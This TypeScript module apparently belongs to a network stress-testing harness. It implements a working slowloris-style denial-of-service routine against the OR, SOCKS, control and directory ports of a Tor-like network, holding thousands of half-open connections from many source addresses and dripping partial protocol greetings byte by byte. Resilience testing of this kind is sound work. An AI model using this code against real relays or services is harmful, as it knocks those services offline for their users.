import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { splitAddress } from '../../network-ports.ts';
import { hostileAddresses } from '../assailant.ts';
import { type Aim, type AttackReport, scaled } from '../attack.ts';

/** Half of them say nothing, half a byte a second; over all ports together. */
const connectionsMax = 10_000;
const addresses = 100;
const dripMs = 1_000;
/** Connections begun at once, so that the kernel's backlogs do not turn them away. */
const batch = 100;

/** The beginnings of what each port expects. */
const words = {
  or: Buffer.from('160301020001000200', 'hex'),
  socks: Buffer.from('05ff', 'hex'),
  control: Buffer.from('AUTHENTICATE '),
  dir: Buffer.from('GET /tor/status-vote/current/consensus HTTP/1.0\r\nX-A: '),
};

/** Connections to every port of the network that never come to their point; whoever is thrown out comes again. */
export async function slowConnections(aim: Aim, stop: AbortSignal, begun: () => void): Promise<AttackReport> {
  const [host, port] = splitAddress(aim.directory);
  const ports = [
    { at: aim.guard, word: words.or },
    { at: aim.socks, word: words.socks },
    { at: aim.control, word: words.control },
    { at: { host, port }, word: words.dir },
  ];
  const wanted = scaled(connectionsMax, aim);
  const from = hostileAddresses(addresses);
  const open = new Set<Socket>();
  let [opened, thrownOut, refused, most] = [0, 0, 0, 0];
  const one = (): void => {
    const { at, word } = ports[opened % ports.length];
    const drips = opened % (2 * ports.length) < ports.length;
    const socket = connect({ ...at, localAddress: from[opened % from.length] });
    opened += 1;
    open.add(socket);
    let up = false;
    let said = 0;
    const drip = setInterval(() => {
      if (drips && up) socket.write(said < word.length ? word.subarray(said, ++said) : word.subarray(-1));
    }, dripMs);
    socket.on('connect', () => {
      up = true;
    });
    socket.on('error', () => {});
    socket.resume();
    socket.on('close', () => {
      clearInterval(drip);
      open.delete(socket);
      if (up) thrownOut += 1;
      else refused += 1;
    });
  };
  while (!stop.aborted) {
    for (let i = 0; i < batch && open.size < wanted; i++) one();
    most = Math.max(most, open.size);
    if (opened >= wanted) begun();
    await pause(20);
  }
  const held = open.size;
  for (const socket of open) socket.destroy();
  return { opened, most, held, thrownOut, refused };
}
